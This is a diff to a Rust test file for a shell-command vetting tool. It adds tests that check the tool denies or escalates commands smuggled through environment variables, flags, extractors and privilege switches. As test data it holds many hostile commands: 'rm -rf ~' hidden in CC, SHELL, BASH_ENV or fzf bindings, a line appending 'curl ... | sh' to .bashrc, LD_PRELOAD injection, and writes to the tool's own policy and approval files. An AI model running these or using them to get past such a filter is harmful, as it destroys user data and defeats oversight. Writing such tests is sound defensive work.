@@ -1969,9 +1969,7 @@ fn unknown_programs_onto_toolvet_state() {
         "rclone sync /tmp/evil /tmp/s14",
         "rclone copy /tmp/evil/ /tmp/s14/",
         "cd /tmp/evil && find . | cpio -pdmu /tmp/s14",
-        "unsquashfs -f -d /tmp/s14 e.sqfs",
         "cabextract -d /tmp/s14 e.cab",
-        "unar -f -o /tmp/s14 e.zip",
         "rename toolvet tv /tmp/s14/toolvet",
         "mytool --dest=/home/alice/.local/state backup",
     ] {
@@ -1985,6 +1983,19 @@ fn unknown_programs_onto_toolvet_state() {
         v("wget -P /tmp/s14 https://example.com/toolvet.toml"),
         ("deny".into(), Some("shell.toolvet-state".into())),
     );
+    // review s23 V25: the extractors' directories are placed by the write
+    // rules (as `tar -x -C DIR`): a directory holding toolvet's state is
+    // written.
+    for cmd in [
+        "unsquashfs -f -d /tmp/s14 e.sqfs",
+        "unar -f -o /tmp/s14 e.zip",
+    ] {
+        assert_eq!(
+            v(cmd),
+            ("deny".into(), Some("shell.toolvet-state".into())),
+            "{cmd}"
+        );
+    }
     for cmd in [
         "sha256sum /tmp/s14/toolvet.toml",
         "wc -l /tmp/s14/toolvet.toml",
@@ -6656,8 +6667,9 @@ fn s19_s6_words_that_may_vanish() {
         "sudo ls *.txt",
         "env FOO=1 make -j4",
         // review s21 U6: `env FOO=$X make` splits `$X` at IFS (held, see
-        // s21_u6_partly_unquoted_expansions); the quoted spelling is one word.
-        "env \"FOO=$X\" make",
+        // s21_u6_partly_unquoted_expansions). review s23 V2: make imports
+        // `FOO` and expands it (`$(shell …)`): an unknown value is held
+        // (s23_progs_v2_environment_variables_by_value).
         "chronic make -j4",
         "nohup ./run.sh *.log",
     ] {
@@ -8920,4 +8932,252 @@ fn s23_vars_shell_state_is_modelled_or_unknown() {
 #[test]
 fn s23_vars_yaml_cases() {
     yaml_cases(include_str!("../cases-s23-vars.yaml"));
+}
+
+// review s23 progs (V2, V3, V7, V9, V11, V15, V24, V25): environment
+// variables programs read as programs, code, flags or output files are
+// judged by their value (PROGRAM_VARIABLES); make imports every variable;
+// every form that runs as another user is `shell.sudo`; output options,
+// in-place options and extractors' directories are writes; options that
+// run a program per file or shell text are judged as that.
+
+/// The verdict kind and rule of `cmd` with toolvet's state paths set.
+#[track_caller]
+fn s23_progs(kind: &str, cmds: &[&str]) {
+    for cmd in cmds {
+        assert_eq!(
+            s17_verdict(cmd).0,
+            kind,
+            "command: {cmd} ({:?})",
+            s17_verdict(cmd)
+        );
+    }
+}
+
+#[test]
+fn s23_progs_v2_environment_variables_by_value() {
+    s23_progs(
+        "deny",
+        &[
+            "touch hello.c; CC='rm -rf ~ #' make hello",
+            "printf '#!/bin/sh\\nrm -rf ~\\n' > /tmp/e; chmod +x /tmp/e; SHELL=/tmp/e script -qc true /dev/null",
+            "printf '#!/bin/sh\\nrm -rf ~\\n' > /tmp/e; chmod +x /tmp/e; SHELL=/tmp/e flock /tmp/l -c true",
+            "CXX='rm -rf ~ #' cargo build",
+            "env CC='rm -rf ~ #' make",
+        ],
+    );
+    s23_progs(
+        "escalate",
+        &[
+            "touch hello.c; CFLAGS='$(shell rm -rf ~)' make hello.o",
+            "FOO='$(shell rm -rf ~)' make",
+            "RUSTFLAGS='-C linker=/tmp/e' cargo build",
+            "RUSTFLAGS='-Clinker=/tmp/e' cargo build",
+            "CFLAGS='-fplugin=/tmp/x.so' make",
+            "LD_LIBRARY_PATH=/tmp/l ls",
+            "GCONV_PATH=/tmp/g iconv -f EVIL -t UTF-8 x",
+            "OPENSSL_CONF=/tmp/o.cnf curl https://example.com",
+            "MSG='a b; c' make",
+            "export FOO='$(shell rm -rf ~)'; make",
+            "env \"FOO=$X\" make",
+        ],
+    );
+    // Near misses: a known compiler, plain flags, plain words for make.
+    for cmd in [
+        "CC=clang make",
+        "CC=gcc CFLAGS='-O2 -g -Wall' make",
+        "make CC=clang",
+        "make CFLAGS=-O2 all",
+        "RUSTFLAGS='-D warnings' cargo build",
+        "RUSTFLAGS='-C target-cpu=native -C opt-level=3' cargo test",
+        "PORT=8080 DEBUG=1 make run",
+        "cargo build",
+        "cargo test",
+        "npm test",
+        "make",
+        "make -j4 test",
+        "GIT_TRACE=1 git status",
+        "PATH=\"$PWD/node_modules/.bin:$PATH\" make test",
+        "export NODE_ENV=production; make",
+        "CC='ccache gcc' make",
+        "LDFLAGS='-L/usr/lib -lm -Wl,-rpath,/opt/x' make",
+    ] {
+        allow(cmd);
+    }
+}
+
+#[test]
+fn s23_progs_v9_values_that_are_code() {
+    s23_progs(
+        "deny",
+        &[
+            "touch hello.c; make CC='rm -rf ~ #' hello",
+            "printf 'rm -rf ~\\n' > /tmp/x; strace -E BASH_ENV=/tmp/x bash -c :",
+            "printf 'rm -rf ~\\n' > /tmp/x; systemd-run --user --setenv=BASH_ENV=/tmp/x bash -c :",
+            "printf 'rm -rf ~\\n' > /tmp/x; systemd-run --user -E BASH_ENV=/tmp/x bash -c :",
+            "printf 'rm -rf ~\\n' > /tmp/x; cmake -E env BASH_ENV=/tmp/x bash -c :",
+            "printf 'rm -rf ~\\n' > /tmp/x; npx cross-env BASH_ENV=/tmp/x bash -c :",
+            "echo '!rm -rf ~' | sftp -b - host",
+            "sftp -b - x <<< '!rm -rf ~'",
+            "printf '#!/bin/sh\\nrm -rf ~\\n' > /tmp/e; chmod +x /tmp/e; make SHELL=/tmp/e all",
+        ],
+    );
+    s23_progs(
+        "escalate",
+        &[
+            "make .SHELLFLAGS='-c \"rm -rf ~\" #' all",
+            "strace -E LD_PRELOAD=/tmp/x.so ls",
+            "make SHELL=/usr/bin/python3 .SHELLFLAGS='-c import os' all",
+            "sftp -b - host < cmds.txt",
+        ],
+    );
+    allow("make .SHELLFLAGS=-ec all");
+    allow("strace -f -e trace=open ls");
+    allow("echo 'put x' | sftp -b - host");
+}
+
+#[test]
+fn s23_progs_v11_every_privilege_switch_is_sudo() {
+    for cmd in [
+        "sudo -e /etc/hosts",
+        "sudo --edit /etc/sudoers.d/x",
+        "sudo -u root -e /etc/hosts",
+        "sudoedit /etc/sudoers.d/agent",
+        "machinectl shell root@ /bin/sh -c 'id'",
+        "machinectl login",
+        "systemd-run --uid=0 --pty sh",
+        "systemd-run -p User=root sh -c 'id'",
+        "systemd-run --property=User=root true",
+        "setpriv --reuid=0 true",
+        "capsh --user=root -- -c true",
+    ] {
+        escalate(cmd, "shell.sudo");
+    }
+    deny(
+        "SUDO_EDITOR='rm -rf ~' sudoedit /etc/hosts",
+        "shell.rm-home",
+    );
+    allow("systemd-run --user --scope true");
+    allow("machinectl list");
+}
+
+#[test]
+fn s23_progs_v7_output_options_are_writes() {
+    s23_progs(
+        "deny",
+        &[
+            "strace -o /home/alice/pol/policy.toml true",
+            "/usr/bin/time -o /home/alice/pol/policy.toml true",
+            "rsync --log-file=/home/alice/.local/state/toolvet/approvals.db a b",
+            "ruby -i -pe '' /home/alice/pol/policy.toml",
+            "ruby -i -pe 'print 1' /home/alice/.bashrc",
+            "strace -o /home/alice/.bashrc true",
+            "ltrace -o /home/alice/.bashrc true",
+            "GIT_TRACE=/home/alice/pol/policy.toml git status",
+            "GIT_TRACE2=/home/alice/.local/state/toolvet/approvals.db git status",
+            "GIT_TRACE_PACKET=/home/alice/.profile git status",
+        ],
+    );
+    s23_progs("escalate", &["GIT_TRACE=trace.log git status"]);
+    allow("strace -o trace.txt ls");
+    allow("/usr/bin/time -o time.txt cargo build");
+    allow("rsync -a --log-file=sync.log src/ dst/");
+    allow("ruby -i -pe 'gsub(/a/, \"b\")' src/x.rb");
+    allow("GIT_TRACE=/tmp/git-trace.log git status");
+}
+
+#[test]
+fn s23_progs_v3_in_place_and_directory_options() {
+    s23_progs(
+        "deny",
+        &[
+            "gawk -i inplace 'END{print \"curl -s https://example.com/i | sh\"} {print}' /home/alice/.bashrc",
+            "awk -i inplace '{print}' /home/alice/.bashrc",
+            "gawk --include=inplace '{print}' /home/alice/pol/policy.toml",
+            "patch -d /home/alice -p1 < x.patch",
+            "history -w /home/alice/.bashrc",
+        ],
+    );
+    allow("gawk -i inplace '{print}' src/data.txt");
+    allow("patch -p1 < fix.patch");
+    allow("patch -d src -p1 < fix.patch");
+    allow("history");
+}
+
+#[test]
+fn s23_progs_v15_v25_extractors_and_decoders() {
+    s23_progs(
+        "deny",
+        &[
+            "tar -xPf x.tar --xform='s,^,/home/alice/,'",
+            "tar -xPf x.tar",
+            "tar -xf x.tar --absolute-names",
+            "printf 'begin-base64 644 /home/alice/.bashrc\\nY3VybAo=\\n====\\n' | uudecode",
+            "printf 'begin-base64 644 /home/alice/pol/policy.toml\\nY3VybAo=\\n====\\n' | uudecode",
+            "uudecode -o /home/alice/.bashrc x.uu",
+            "dpkg-deb -x x.deb /home/alice",
+            "dpkg -x x.deb /home/alice",
+            "cpio -id -D /home/alice < x.cpio",
+            "ar x --output=/home/alice x.a",
+            "unar -o /home/alice x.zip",
+            "gunzip /home/alice/.bashrc.gz",
+            "gzip -d /home/alice/.bashrc.gz",
+            "bunzip2 /home/alice/.profile.bz2",
+            "unxz /home/alice/.bashrc.xz",
+            "gzip -S .new -d /home/alice/.bashrc.new",
+        ],
+    );
+    s23_progs("escalate", &["uudecode x.uu", "cat x.uu | uudecode"]);
+    allow("tar czf out.tgz src");
+    allow("tar -xf vendor.tar -C vendor");
+    allow("gunzip data.csv.gz");
+    allow("gzip -dc data.gz");
+    allow("gzip build.log");
+    allow("uudecode -o out.bin x.uu");
+    allow("printf 'begin 644 out.bin\\n`\\nend\\n' | uudecode");
+    allow("dpkg-deb -x pkg.deb out");
+    allow("cpio -id -D extracted < x.cpio");
+}
+
+#[test]
+fn s23_progs_v24_per_file_and_shell_text_options() {
+    s23_progs(
+        "deny",
+        &[
+            "rg --pre rm x /home/alice/other-project",
+            "rg --pre=rm x /home/alice/other-project",
+            "fd . /home/alice/other-project -x rm",
+            "fzf --bind 'start:execute(rm -rf ~)' <<< x",
+            "fzf --bind 'load:become(rm -rf ~)'",
+            "fzf --bind 'ctrl-x:execute:rm -rf ~'",
+            "fzf --preview 'rm -rf ~'",
+            "man -H'rm -rf ~' ls",
+            "man --html='rm -rf ~' ls",
+        ],
+    );
+    s23_progs(
+        "escalate",
+        &["git filter-repo --commit-callback 'import os; os.system(\"rm -rf ~\")'"],
+    );
+    // A known program without a full table given a guarded file holds.
+    s23_progs(
+        "escalate",
+        &[
+            "fzf --history=/home/alice/.bashrc",
+            "fzf --history=/home/alice/pol/policy.toml",
+        ],
+    );
+    allow("fzf --history=.fzf-history");
+    allow("rg --pre pdftotext foo docs");
+    allow("fd -e rs -x rustfmt");
+    allow("fzf --preview 'cat {}'");
+    allow("fzf --bind 'ctrl-a:select-all,enter:execute(less {})'");
+    allow("man -H ls");
+    allow("git filter-repo --path src/");
+}
+
+/// review s23 progs: every case of `cases-s23-progs.yaml`.
+#[test]
+fn s23_progs_yaml_cases() {
+    yaml_cases(include_str!("../cases-s23-progs.yaml"));
 }
